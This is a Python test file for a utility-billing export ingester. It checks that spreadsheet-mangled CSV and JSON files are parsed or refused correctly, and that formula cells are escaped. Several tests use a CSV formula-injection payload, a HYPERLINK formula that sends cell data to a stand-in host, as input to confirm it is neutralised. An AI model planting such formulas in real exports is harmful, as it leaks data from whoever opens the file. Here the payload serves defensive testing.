"""Exports that went through a spreadsheet: read as they were meant, or refused for the reason that they really have."""

import csv
import gzip
import json
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from adapters.billing.embedded import SqlBilling, open_billing
from domain.law.policy_choice import Policies
from domain.money.book import BookedBill
from edge.ingest.columns import COLUMNS
from edge.ingest.ingest import IngestReport, ingest
from edge.ingest.lines import FileRefused, ReadLine, open_export
from edge.ingest.listing import harmless
from tests.edge.ingest.test_ingest import CUSTOMERS, NOW, Cases, read_csv

ZONE = ZoneInfo("Asia/Shanghai")
HEADER = "账单号,户号,费用年月,交费期限,应收电费"
LINE = "T1,0091001,2026-08,2026-09-25,100.00"
BILL = BookedBill("T1", "0091001", date(2026, 9, 25), Decimal("100.00"), "2026-08")
WANG = ("0091001", "王伟", "人民路1号", "居民", "M-91001", "RC-03", "r-017", "t-003", "FU-02", "BS-01", "R-1")
IDS = ("account_id", "meter_id", *(c.name for c in COLUMNS["customers"][9:]))


def read(folder: Path, content: bytes) -> list[ReadLine]:
    path = folder / "export"
    path.write_bytes(content)
    export = open_export(path)
    assert export is not None
    try:
        return list(export.read(ZONE))
    finally:
        export.close()


def csv_text(separator: str = ",") -> str:
    return f"{HEADER}\n{LINE}\n".replace(",", separator)


UTF8_MARK, GB_MARK = b"\xef\xbb\xbf", "\ufeff".encode("gb18030")
READ = {
    **{f"sep {s!r}": f"sep={s}\n{csv_text(s)}".encode() for s in ",;\t|"},
    "sep quoted": f'"sep=;"\n{csv_text(";")}'.encode(),
    "sep in capitals, CRLF, mark": UTF8_MARK + f"SEP=,\r\n{csv_text()}".encode(),
    "sep that is not used": f"sep=;\n{csv_text()}".encode(),
    "title": f"某供电公司 费明细表,,,,\n{csv_text()}".encode(),
    "title of several rows": f"某公司\n制表：王,,,,\n2026年8月,,,,\n\n{csv_text()}".encode("gb18030"),
    "title with a line break": f'"某公司\n明细",,,,\n{csv_text()}'.encode(),
    "title and sep": f"明细\nsep=,\n{csv_text()}".encode(),
    "a title in brackets": f"[明细]\n{csv_text()}".encode(),
    "a column title with a line break": csv_text().replace("应收电费", '"应收电费\n（元）"').encode(),
    "two marks": 2 * UTF8_MARK + csv_text().encode(),
    "three marks": 3 * GB_MARK + csv_text().encode("gb18030"),
    "two files joined": UTF8_MARK + HEADER.encode() + b"\n" + UTF8_MARK + csv_text().encode(),
    "CR": csv_text().replace("\n", "\r").encode(),
    "CR without a last one": csv_text().strip().replace("\n", "\r").encode("gb18030"),
    "gzip": gzip.compress(csv_text().encode()),
    "gzip of GB18030": gzip.compress(csv_text().encode("gb18030")),
    "gzip of UTF-16 with CR": gzip.compress(csv_text("\t").replace("\n", "\r").encode("utf-16")),
    "gzip twice": gzip.compress(gzip.compress(csv_text().encode())),
    "UTF-16": csv_text("\t").encode("utf-16"),
    "UTF-16 BE with its mark": ("\ufeff" + csv_text()).encode("utf-16-be"),
    "UTF-16 LE without": csv_text().encode("utf-16-le"),
    "UTF-16 BE without": csv_text().encode("utf-16-be"),
    "formulas": csv_text().replace("T1,0091001", '="T1",="0091001"').encode(),
    "formulas, quoted": csv_text().replace("T1,0091001", '"=""T1""","=""0091001"""').encode(),
    "formulas everywhere": ("\n".join(",".join(f'="{c}"' for c in x.split(",")) for x in (HEADER, LINE))).encode(),
    "apostrophes": csv_text().replace(LINE, ",".join("'" + cell for cell in LINE.split(","))).encode(),
    **{f"apostrophe {a}": csv_text().replace("T1,0091001", f"{a}T1,{a}0091001").encode() for a in "＇‘’"},
    "an apostrophe before a formula": csv_text().replace("0091001", '\'="0091001"').encode(),
    "blanks around an id": csv_text().replace("0091001", "\u00a00091001\u3000").encode(),
    "column titles in full width": csv_text()
    .replace(HEADER, "ｂｉｌｌ＿ｉｄ,ＡＣＣＯＵＮＴ＿ＩＤ,period,\u200bdue_date,amount")
    .encode(),
    "CR CR LF": csv_text().replace("\n", "\r\r\n").encode(),
    "UTF-16 under a title, CRLF": ("某公司\r\n" + csv_text().replace("\n", "\r\n")).encode("utf-16-be"),
    "full width": csv_text().replace("T1,0091001", "Ｔ１,００９１００１").encode(),
    "JSON with two marks": 2 * UTF8_MARK
    + json.dumps(dict(zip(HEADER.split(","), LINE.split(","), strict=True))).encode(),
    "JSON with a formula": json.dumps(
        dict(zip(HEADER.split(","), ('="T1"', "'００９１００１", *LINE.split(",")[2:]), strict=True))
    ).encode(),
}


@pytest.mark.parametrize("content", READ.values(), ids=READ)
def test_what_a_spreadsheet_makes_of_an_export_is_read_as_it_was_meant(tmp_path: Path, content: bytes) -> None:
    assert [(line.row, line.reason) for line in read(tmp_path, content)] == [(BILL, "")]


@pytest.mark.parametrize("text", ["12D3", "E5", "FU.02", "r.1", "1.2.3", "91-001", "北3E", "Infinity-1"])
def test_an_id_that_only_resembles_a_number_is_an_id(tmp_path: Path, text: str) -> None:
    (line,) = read(tmp_path, csv_text().replace("T1", text).encode())
    assert line.row == BILL._replace(bill_id=text)


@pytest.mark.parametrize(
    ("column", "text", "why"),
    [
        ("phone", "1.38E+10", "turned into a number"),
        ("phone", "13800000000.0", "turned into a number"),
        *((column, "#REF!", "error of a spreadsheet") for column in ("name", "address", "phone")),
    ],
)
def test_what_a_spreadsheet_spoilt_never_reaches_a_customer(tmp_path: Path, column: str, text: str, why: str) -> None:
    record = dict(zip(CUSTOMERS.split(","), WANG, strict=True)) | {"phone": "010.62345678"}
    (whole,) = read(tmp_path, json.dumps(record).encode())
    assert whole.reason == ""
    (line,) = read(tmp_path, json.dumps(record | {column: text}).encode())
    assert line.reason.startswith(column)
    assert why in line.reason


@pytest.mark.parametrize("period", ["2026-08-01", "2026/8/1", "20260801", "2026年8月1日", "2026-07-31T16:00:00Z"])
def test_a_month_that_became_a_day_is_that_month(tmp_path: Path, period: str) -> None:
    (line,) = read(tmp_path, csv_text().replace("2026-08,", f"{period},").encode())
    assert line.row == BILL


def test_a_line_keeps_its_physical_number_under_a_title(tmp_path: Path) -> None:
    (line,) = read(tmp_path, f"sep=,\n明细\n\n{HEADER}\nT1,0091001,x,2026-09-25,100\n".encode())
    assert line.number == 5


@pytest.mark.parametrize("place", IDS)
@pytest.mark.parametrize(
    ("text", "why"),
    [
        *((t, "turned into a number") for t in ("1.23E+11", "9.1001E4", "91001.0", "1e5", "1.5e-3", "９１００１．０")),
        *((t, "turned into a number") for t in ("91001.", "+9.1E4", '="91001.0"', "'9.1001E4", "INF")),
        *((t, "turned into a number") for t in ("9.1001E−4", "+91,001.5", "’91001.0", "91,001")),
        *((t, "blank within") for t in ("0091 001", "0091\u3000001", "0091\u00a0001", "0091\u3164001")),
        *((t, "is a formula") for t in ('=""0091001""', "=91001", '=TEXT(91001,"0000000")', "＝91001")),
        *((t, "error of a spreadsheet") for t in ("#N/A", "#REF!", "#####")),
    ],
)
def test_an_id_that_is_none_is_rejected_whichever_column_it_stands_in(
    tmp_path: Path, place: str, text: str, why: str
) -> None:
    record = dict(zip(CUSTOMERS.split(","), WANG, strict=True)) | {place: text}
    as_csv = tmp_path / "as.csv"
    with as_csv.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, record)
        writer.writeheader()
        writer.writerow(record)
    for content in (as_csv.read_bytes(), json.dumps(record).encode()):
        (line,) = read(tmp_path, content)
        assert line.row is None
        assert line.reason.startswith(place)
        assert why in line.reason


def test_numbers_in_json_are_no_ids_when_they_are_floating(tmp_path: Path) -> None:
    for number in ("91001.0", "9.1001E4"):
        text = '{"bill_id":"T1","account_id":NUMBER,"period":"2026-08","due_date":"2026-09-25","amount":1}'
        (line,) = read(tmp_path, text.replace("NUMBER", number).encode())
        assert "turned into a number" in line.reason


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (gzip.compress(csv_text().encode(), mtime=0)[:-9], "damaged"),
        (gzip.compress(gzip.compress(gzip.compress(b"x", mtime=0), mtime=0), mtime=0), "over and over"),
        (b"<html><table>", "web page"),
        (b"BZh91AY", "bzip2"),
        (b"sep=,\n", "nothing under"),
        ("某公司 明细,,\n号码,客户,月份\n1,2,3\n".encode(), "its columns are 号码, 客户, 月份"),
        (b"a title\n" + HEADER.replace("账单号,", "").encode(), "lacks bill_id 账单号"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_for_its_real_reason(tmp_path: Path, content: bytes, why: str) -> None:
    with pytest.raises(FileRefused, match=why):
        read(tmp_path, content)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x/?"&A1),1', '\'=HYPERLINK("http://x/?"&A1),1'),
        *((f"{sign}1+1", f"'{sign}1+1") for sign in "=+-@＝＋－＠"),
        (" =1", "' =1"),
        ("\tx", "'\tx"),
        ("B1;=1;-5;-A1", "B1;'=1;-5;'-A1"),
        ("B1\t@x", "B1\t'@x"),
        (LINE, LINE),
        ('"b1","1,000",-5', '"b1","1,000",-5'),
    ],
)
def test_what_a_list_repeats_is_no_formula(text: str, safe: str) -> None:
    assert harmless(text) == safe


# Two ids for one thing.


@pytest.fixture
def book(tmp_path: Path) -> Iterator[SqlBilling]:
    billing = open_billing(f"sqlite:///{tmp_path / 'billing.db'}", "Asia/Shanghai")
    yield billing
    billing.engine.dispose()


def customers(folder: Path, *accounts: tuple[str, str], name: str = "customers.csv") -> Path:
    path = folder / name
    lines = [",".join((account, *WANG[1:4], meter, *WANG[5:])) for account, meter in accounts]
    path.write_text("\n".join([CUSTOMERS, *lines]), "utf-8")
    return path


async def take(book: SqlBilling, *files: Path, dry_run: bool = False) -> IngestReport:
    rejects = files[0].with_name("rejected.csv")
    return await ingest(files, book, Cases(), now=NOW, policies=Policies(), dry_run=dry_run, reject_path=rejects)


def warned(report: IngestReport) -> list[tuple[int, str]]:
    if report.warnings is None:
        return []
    with Path(report.warnings).open(encoding="utf-8", newline="") as file:
        return [(int(row["line"]), row["reason"]) for row in csv.DictReader(file)]


async def test_two_accounts_with_one_meter_in_a_file_are_named_once(tmp_path: Path, book: SqlBilling) -> None:
    report = await take(book, customers(tmp_path, ("A1", "M-1"), ("A2", "m1"), ("A3", "M-3")))
    assert (report.accepted, report.rejected) == (3, 0)
    ((line, reason),) = warned(report)
    assert line == 3
    assert "accounts A2 and A1 have one meter" in reason


@pytest.mark.parametrize("dry_run", [False, True])
@pytest.mark.parametrize(
    ("known", "now"), [("a-0091", "A0091"), ("ab-1", "AB–1"), ("ab1", "AB-1"), ("ab-1", "ＡＢ－１")]
)
async def test_an_id_like_one_in_the_book_is_named_with_it(
    tmp_path: Path, book: SqlBilling, known: str, now: str, dry_run: bool
) -> None:
    assert (await take(book, customers(tmp_path, (known, "M1")))).warnings is None
    ((_, reason),) = warned(await take(book, customers(tmp_path, (now, "M2")), dry_run=dry_run))
    assert known in reason
    assert "differ only in case, width, blanks or dashes" in reason


async def test_bills_and_payments_alike_are_named(tmp_path: Path, book: SqlBilling) -> None:
    people = customers(tmp_path, ("A1", "M1"))
    bills, payments = tmp_path / "b.csv", tmp_path / "p.csv"
    bills.write_text(f"{HEADER}\nB-1,A1,2026-08,2026-12-25,1\nb1,A1,2026-08,2026-12-25,1\n", "utf-8")
    payments.write_text("流水号,户号,金额,交费时间\nP-1,A1,1,2026-10-01\np1,A1,1,2026-10-01\n", "utf-8")
    reasons = [reason for _, reason in warned(await take(book, people, bills, payments))]
    assert ["bill b1 and bill B-1" in reasons[0], "payment p1 and payment P-1" in reasons[1]] == [True, True]


async def test_a_meter_that_moved_within_the_export_is_no_doubt(tmp_path: Path, book: SqlBilling) -> None:
    await take(book, customers(tmp_path, ("A1", "M1"), ("A2", "M2")))
    assert warned(await take(book, customers(tmp_path, ("A2", "M1"), ("A1", "M2")))) == []


async def test_one_customer_in_three_spellings_is_one_account(tmp_path: Path, book: SqlBilling) -> None:
    spelled = [('="0091001"', '="M-91001"'), ("9.1001E4", "91001.0"), ("91001.0", "M-91001.0")]
    report = await take(book, customers(tmp_path, *spelled))
    assert (report.accepted, report.rejected) == (1, 2)
    assert book.customer("0091001") is not None


async def test_a_rejected_formula_stays_text(tmp_path: Path, book: SqlBilling) -> None:
    path = tmp_path / "b.csv"
    path.write_text(f'{HEADER}\n=HYPERLINK("http://x/?"&A1),0091001,2026-08,2026-09-25,abc\n', "utf-8")
    report = await take(book, path)
    header, cells = read_csv(str(report.reject_file))
    row = dict(zip(header, cells, strict=True))
    assert row["text"].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
